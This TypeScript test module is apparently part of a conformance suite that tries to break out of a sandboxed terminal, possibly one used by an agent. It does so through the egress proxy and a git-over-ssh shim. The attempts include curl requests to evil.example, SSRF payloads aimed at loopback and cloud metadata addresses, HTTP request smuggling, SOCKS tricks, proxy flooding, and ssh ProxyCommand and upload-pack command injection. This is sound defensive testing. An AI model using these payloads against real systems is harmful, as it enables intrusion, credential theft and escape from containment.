import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Terminal } from '../../../../src/contracts/terminal.ts';
import { run } from '../../../../src/testing/conformance/terminal-commands.ts';
import { python, type EscapeTheme } from './attempt.ts';
import { openWalled } from './open-walled.ts';
import type { World } from './world.ts';

const PROXY = '127.0.0.1:14128';
const GIT_SSH = 14_129;
const WON = 'printf "canary-%s\\n" 7f3a91c2';
/** Bytes to the proxy as they are, and what it answers. */
const raw = (...requests: readonly string[]): string =>
  python(`import socket
for text in ${JSON.stringify(requests)}:
  s=socket.create_connection(("127.0.0.1",14128)); s.settimeout(2)
  try:
    s.sendall(text.encode("latin1")); print(text[:60].encode(),s.recv(400))
  except OSError as e: print(e)
  s.close()`);
const connect = (...targets: readonly string[]): string =>
  raw(...targets.map((target) => `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));

/** A project with a remote over ssh, and a program in the place of the owner's ssh that tells what it was called with. */
async function withRemote(terminal: Terminal, world: World, command: string, env: Readonly<Record<string, string>> = {}): Promise<string> {
  const bin = join(world.out, 'bin');
  if (!existsSync(bin)) mkdirSync(bin);
  writeFileSync(join(bin, 'ssh'), `#!/bin/sh\nprintf '%s\\n' "called: $*" >> ${world.out}/calls\n`, { mode: 0o755 });
  writeFileSync(join(world.out, 'calls'), '');
  spawnSync('git', ['remote', 'add', 'origin', 'git@good.example:one/two.git'], { cwd: world.project });
  const other = await openWalled(world, 'attended', { env: { PATH: `${bin}:${world.env['PATH'] ?? ''}`, HOME: world.home, ...env } });
  const { output } = await run(other, command, { timeoutMs: 15_000 });
  await other[Symbol.asyncDispose]();
  const calls = spawnSync('cat', [join(world.out, 'calls')], { encoding: 'utf8' }).stdout;
  const wrong = calls
    .split('\n')
    .filter((line) => line !== '' && !/ -- git@good\.example git-(?:upload|receive)-pack 'one\/two\.git'$/.test(line));
  return `${terminal.kind} ${output} ${wrong.length === 0 ? '' : `canary-7f3a91c2 ${wrong.join('; ')}`}`;
}
/** Words for the shim as git gives them. */
const shim = (...words: readonly string[]): string => `/run/hermes/bin/git-ssh ${words.map((word) => `'${word}'`).join(' ')} </dev/null`;

const hostsByTheProxy: EscapeTheme = ({ port, key }) => ({
  'a host nobody agreed to': `curl -sS -m5 -x http://${PROXY} http://evil.example/?x=1; curl -sSk -m5 -x http://${PROXY} https://evil.example/; curl -sS -m5 --socks5-hostname ${PROXY} http://evil.example/; true`,
  'the host’s loopback by the proxy': connect(
    `127.0.0.1:${port}`,
    `localhost:${port}`,
    `[::1]:${port}`,
    `127.1:${port}`,
    `0.0.0.0:${port}`,
    `2130706433:${port}`,
    `0x7f.1:${port}`,
    `0177.0.0.1:${port}`,
    `[::ffff:127.0.0.1]:${port}`,
    `[::ffff:7f00:1]:${port}`,
    `[64:ff9b::7f00:1]:${port}`,
    `localhost.:${port}`,
    `LOCALHOST:${port}`,
    `x.localhost:${port}`,
    `loopback.example:${port}`,
    `127.0.0.1.nip.io:${port}`,
  ),
  'the same by whole addresses': raw(
    ...[
      '127.0.0.1',
      'localhost',
      '[::1]',
      '0',
      '127.1',
      '2130706433',
      '0x7f000001',
      'loopback.example',
      'evil.example@127.0.0.1',
      '127.0.0.1#@evil.example',
      '①②⑦.0.0.1',
    ].map((host) => `GET http://${host}:${port}/ HTTP/1.1\r\nHost: good.example\r\n\r\n`),
  ),
  'metadata of a cloud, and private networks': connect(
    '169.254.169.254:80',
    'metadata.example:80',
    '[fd00:ec2::254]:80',
    '100.100.100.200:80',
    'metadata.google.internal:80',
    '10.0.0.1:443',
    '192.168.1.1:443',
    '172.16.0.1:443',
    'private.example:443',
    '[fe80::1]:443',
    '[fc00::1]:443',
    '224.0.0.1:443',
    '255.255.255.255:443',
    'mixed.example:443',
  ),
  'a name that leads elsewhere the second time': connect('mixed.example:443', 'loopback.example:443', 'mixed.example:80'),
  'another host by the header': raw(
    'GET http://registry.npmjs.org/ HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: evil.example\r\nConnection: close\r\n\r\n',
    `GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`,
    `GET //127.0.0.1:${port}/ HTTP/1.1\r\nHost: x\r\n\r\n`,
  ).replace('registry.npmjs.org', 'evil.example'),
  'a second request smuggled in the first': raw(
    `GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:${port}/ HTTP/1.1\r\nHost: x\r\n\r\n`,
    `GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 0\r\nContent-Length: 50\r\n\r\nGET http://127.0.0.1:${port}/ HTTP/1.1\r\n\r\n`,
    `GET http://evil.example/%0d%0aHost:%20x HTTP/1.1\nHost: evil.example\n\nGET http://127.0.0.1:${port}/ HTTP/1.1\n\n`,
    `GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\nX: a\r\n b\rGET http://127.0.0.1:${port}/ HTTP/1.1\r\n\r\n`,
    `CONNECT evil.example:80 HTTP/1.1\r\n\r\nGET http://127.0.0.1:${port}/ HTTP/1.1\r\nHost: x\r\n\r\n`,
  ),
  'an upgrade, a trace, and other kinds of requests': raw(
    `GET http://127.0.0.1:${port}/ HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n`,
    `TRACE http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n`,
    `OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n`,
    `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`,
    `GET file://${key} HTTP/1.1\r\nHost: x\r\n\r\n`,
    `GET unix:${key} HTTP/1.1\r\nHost: x\r\n\r\n`,
    `GET ftp://evil.example/ HTTP/1.1\r\nHost: x\r\n\r\n`,
  ),
});

const proxyAsTarget: EscapeTheme = ({ port }) => ({
  'targets that are no hosts': connect(
    `evil.example:0`,
    `evil.example:99999`,
    `evil.example`,
    `:443`,
    `[::1`,
    `a..b:443`,
    `-x:443`,
    `evil.example:443@127.0.0.1:${port}`,
    `evil.example:443/../..`,
    `*:443`,
    `${'a'.repeat(300)}:443`,
  ),
  'addresses by SOCKS': python(`import socket,struct
def ask(kind,body,port,cmd=1):
  s=socket.create_connection(("127.0.0.1",14128)); s.settimeout(2)
  try:
    s.sendall(b"\\x05\\x01\\x00"); s.recv(2); s.sendall(bytes([5,cmd,0,kind])+body+struct.pack(">H",port)); print(s.recv(10)); print(s.recv(99))
  except OSError as e: print(e)
  s.close()
for host in ("127.0.0.1","10.0.0.1","169.254.169.254","0.0.0.0"): ask(1,socket.inet_aton(host),${port})
for host in ("::1","::ffff:127.0.0.1","fe80::1","64:ff9b::7f00:1"): ask(4,socket.inet_pton(10,host),${port})
for host in (b"localhost",b"loopback.example",b"127.0.0.1",b"evil.example",b"",b"evil.example\\0.registry.npmjs.org",b"registry.npmjs.org\\0",b"127.0.0.1 "): ask(3,bytes([len(host)])+host,${port})
for cmd in (2,3,0xf0): ask(1,socket.inet_aton("0.0.0.0"),${port},cmd)
s=socket.create_connection(("127.0.0.1",14128)); s.settimeout(1); s.sendall(b"\\x04\\x01"+struct.pack(">H",${port})+socket.inet_aton("127.0.0.1")+b"x\\0")
try: print(s.recv(99))
except OSError as e: print(e)`),
  'our own ports by our own proxy': connect(
    '127.0.0.1:14128',
    'localhost:14128',
    `localhost:${GIT_SSH}`,
    '127.0.0.1:14129',
    'sandbox:14128',
  ),
  'the proxy, flooded': {
    tries: async (terminal) => {
      const { output } = await run(
        terminal,
        python(`import socket
held=[]
for i in range(600):
  try:
    s=socket.socket(); s.settimeout(0.2); s.connect(("127.0.0.1",14128)); s.sendall(b"GET http://x"); held.append(s)
  except OSError: break
print(len(held))
big=socket.create_connection(("127.0.0.1",14128)) if len(held)<256 else held[0]
try:
  for i in range(200): big.sendall(b"A"*65536)
except OSError as e: print(e)`),
        { timeoutMs: 15_000 },
      );
      const { output: after } = await run(
        terminal,
        `curl -s -m5 -o /dev/null -w '%{http_code}\\n' -x http://${PROXY} http://evil.example/`,
      );
      return `${output}${after}${process.memoryUsage().rss > 1.5e9 ? 'canary-7f3a91c2 the agent grew' : ''}`;
    },
  },
  'a proxy of its own in our place': `for p in 14128 ${GIT_SSH}; do ${python(`import socket
for p in (14128,${GIT_SSH}):
  for where in ("127.0.0.1","0.0.0.0","::"):
    try:
      s=socket.socket(10 if ":" in where else 2); s.setsockopt(1,2,1); s.setsockopt(1,15,1); s.bind((where,p)); s.listen(); print(where,p,"listens beside ours, inside")
    except OSError as e: print(e)`)}
done`,
  'a program the owner’s own proxy settings lead to': `env | grep -i _proxy= | grep -v USE_ENV | grep -v 127.0.0.1 | grep -v localhost && ${WON}; true`,
});

const gitOverSsh: EscapeTheme = ({ mark, project }) => ({
  'git over ssh to another host': {
    only: 'attended',
    tries: (terminal, world) =>
      withRemote(
        terminal,
        world,
        `git clone git@evil.example:x/y.git; git remote set-url origin git@evil.example:x/y.git; git fetch origin; ${shim('git@evil.example', "git-upload-pack '\\''x/y.git'\\''")}`,
      ),
  },
  'git over ssh to another repository of the same host': {
    only: 'attended',
    tries: (terminal, world) =>
      withRemote(
        terminal,
        world,
        `git clone git@good.example:other/repo.git; git clone root@good.example:one/two.git; git clone ssh://git@good.example:2222/one/two.git; git push git@good.example:other/repo.git main`,
      ),
  },
  'options of ssh in the place of a host': {
    only: 'attended',
    tries: (terminal, world) =>
      withRemote(
        terminal,
        world,
        [
          shim(`-oProxyCommand=touch ${mark}`, 'git@good.example', "git-upload-pack '\\''one/two.git'\\''"),
          shim('-o', `ProxyCommand=touch ${mark}`, 'git@good.example', 'x'),
          shim('-F', `${project}/c`, 'git@good.example', 'x'),
          shim('-L', '8080:localhost:80', 'git@good.example', 'x'),
          shim('-W', 'localhost:22', 'git@good.example'),
          shim(`--`, `-oProxyCommand=touch ${mark}`, 'x'),
          `git clone ssh://-oProxyCommand=touch%20${mark.replaceAll('/', '%2f')}/x`,
        ].join('; '),
      ),
  },
  'another command for the other side': {
    only: 'attended',
    tries: (terminal, world) =>
      withRemote(
        terminal,
        world,
        [
          shim('git@good.example', 'sh'),
          shim('git@good.example'),
          shim('git@good.example', "git-upload-pack '\\''one/two.git'\\''; id"),
          shim('git@good.example', "git-upload-pack '\\''one/two.git'\\'' && id"),
          `git fetch --upload-pack='touch ${mark}; git-upload-pack' origin`,
          `git -c remote.origin.uploadpack='sh -c id' fetch origin`,
          shim('git@good.example', 'git-upload-pack', "'\\''one/two.git'\\''", 'x'),
          `printf 'run 2 x\\ngit@good.example\\nsh\\n' > /dev/tcp/127.0.0.1/${GIT_SSH}`,
        ].join('; '),
      ),
  },
  'a protocol that is none, for the owner’s ssh': {
    only: 'attended',
    tries: (terminal, world) =>
      withRemote(
        terminal,
        world,
        `GIT_PROTOCOL='version=2 -oProxyCommand=touch' git fetch origin; GIT_PROTOCOL=$'version=2\\n-oX' ${shim('git@good.example', "git-upload-pack '\\''one/two.git'\\''")}`,
      ),
  },
  'the connections of another call of git': {
    only: 'attended',
    tries: (terminal, world) =>
      withRemote(
        terminal,
        world,
        `for i in in out err; do printf "$i 00000000-0000-0000-0000-000000000000\\n" > /dev/tcp/127.0.0.1/${GIT_SSH}; done; for i in 1 2 3; do (exec 3<>/dev/tcp/127.0.0.1/${GIT_SSH}; printf 'run 99999999 x\\n' >&3; head -c 100000 /dev/zero >&3) 2>/dev/null; done`,
      ),
  },
  'settings of ssh that lie in the project': {
    only: 'attended',
    tries: (terminal, world) =>
      withRemote(terminal, world, `printf 'Host *\\n ProxyCommand touch ${mark}\\n' > c; git fetch origin`, {
        GIT_SSH_COMMAND: `/usr/bin/ssh -F ${project}/c`,
      }),
    needs: '/usr/bin/ssh',
  },
});

const byTheProxyFour: EscapeTheme = ({ mark, home }) => ({
  'the owner’s settings of ssh, by another home': {
    only: 'attended',
    tries: (terminal, world) =>
      withRemote(
        terminal,
        world,
        `mkdir -p h/.ssh; printf 'Host *\\n ProxyCommand touch ${mark}\\n' > h/.ssh/config; HOME=$PWD/h SSH_AUTH_SOCK=$PWD/x git fetch origin; ls ${home}/.ssh`,
      ),
  },
});

/** To get out by the ways that are there for it: the proxy, and git over ssh. */
export const byTheProxy: EscapeTheme = (world) => ({
  ...hostsByTheProxy(world),
  ...proxyAsTarget(world),
  ...gitOverSsh(world),
  ...byTheProxyFour(world),
});
